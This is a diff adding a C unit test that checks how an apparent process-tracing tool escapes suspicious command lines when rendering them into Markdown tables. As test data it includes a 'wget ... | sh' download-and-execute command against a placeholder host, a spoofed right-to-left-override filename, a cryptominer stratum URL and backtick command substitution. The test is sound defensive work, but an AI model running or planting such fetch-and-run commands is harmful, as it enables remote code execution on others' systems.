@@ -241,6 +241,48 @@ START_TEST(markdown_table_stays_intact)
 }
 END_TEST
 
+/* Replaces the target's argv with one argument. */
+static void set_argv(struct mt_trace *t, const char *arg)
+{
+	size_t i;
+
+	for (i = 0; i < t->chain[0].argc; i++)
+		free(t->chain[0].argv[i]);
+	t->chain[0].argv[0] = strdup(arg);
+	t->chain[0].argc = 1;
+}
+
+START_TEST(markdown_command_line_exact)
+{
+	char *root = hostile_tree();
+	struct mt_trace *t = trace_tree(root, 4242);
+	char *md = render(t, 2, MT_COLOR_NEVER, 0);
+
+	/* one backtick inside: a fence of two; the pipe escaped for the table,
+	 * nothing else of the evidence changed; cut at 200 bytes */
+	ck_assert_ptr_nonnull(strstr(md, "| ``\\xff\\xfe-bad\\r \\u{202e}exe.txt "
+	                                 "--url=stratum+tcp://x\\|y`z*_[a](b) AAAA"));
+	ck_assert_ptr_nonnull(strstr(md, "AAA...`` |"));
+	free(md);
+	set_argv(t, "/bin/sh -c wget -q -O - http://example.invalid/d.sh | sh");
+	md = render(t, 2, MT_COLOR_NEVER, 0);
+	ck_assert_ptr_nonnull(
+	    strstr(md, "| `/bin/sh -c wget -q -O - http://example.invalid/d.sh \\| sh` |"));
+	free(md);
+	/* backticks at both ends and a run of two: a fence of three, padded */
+	set_argv(t, "`id` ``x`` \\srv");
+	md = render(t, 2, MT_COLOR_NEVER, 0);
+	ck_assert_ptr_nonnull(strstr(md, "| ``` `id` ``x`` \\\\srv ``` |"));
+	free(md);
+	/* spaces at both ends survive: padded too */
+	set_argv(t, " a ");
+	md = render(t, 2, MT_COLOR_NEVER, 0);
+	ck_assert_ptr_nonnull(strstr(md, "| `  a  ` |"));
+	free(md);
+	mt_trace_free(t);
+}
+END_TEST
+
 START_TEST(fixture_trace_renders)
 {
 	struct mt_trace *t = trace_fixture("docker-v1-dropper", 4599);
@@ -332,6 +374,7 @@ static Suite *suite(void)
 	tcase_add_test(tc, text_truncates_to_width);
 	tcase_add_test(tc, json_is_valid_and_exact_bytes_recoverable);
 	tcase_add_test(tc, markdown_table_stays_intact);
+	tcase_add_test(tc, markdown_command_line_exact);
 	tcase_add_test(tc, fixture_trace_renders);
 	tcase_add_test(tc, markdown_containment_per_runtime);
 	tcase_add_test(tc, not_found_renders);
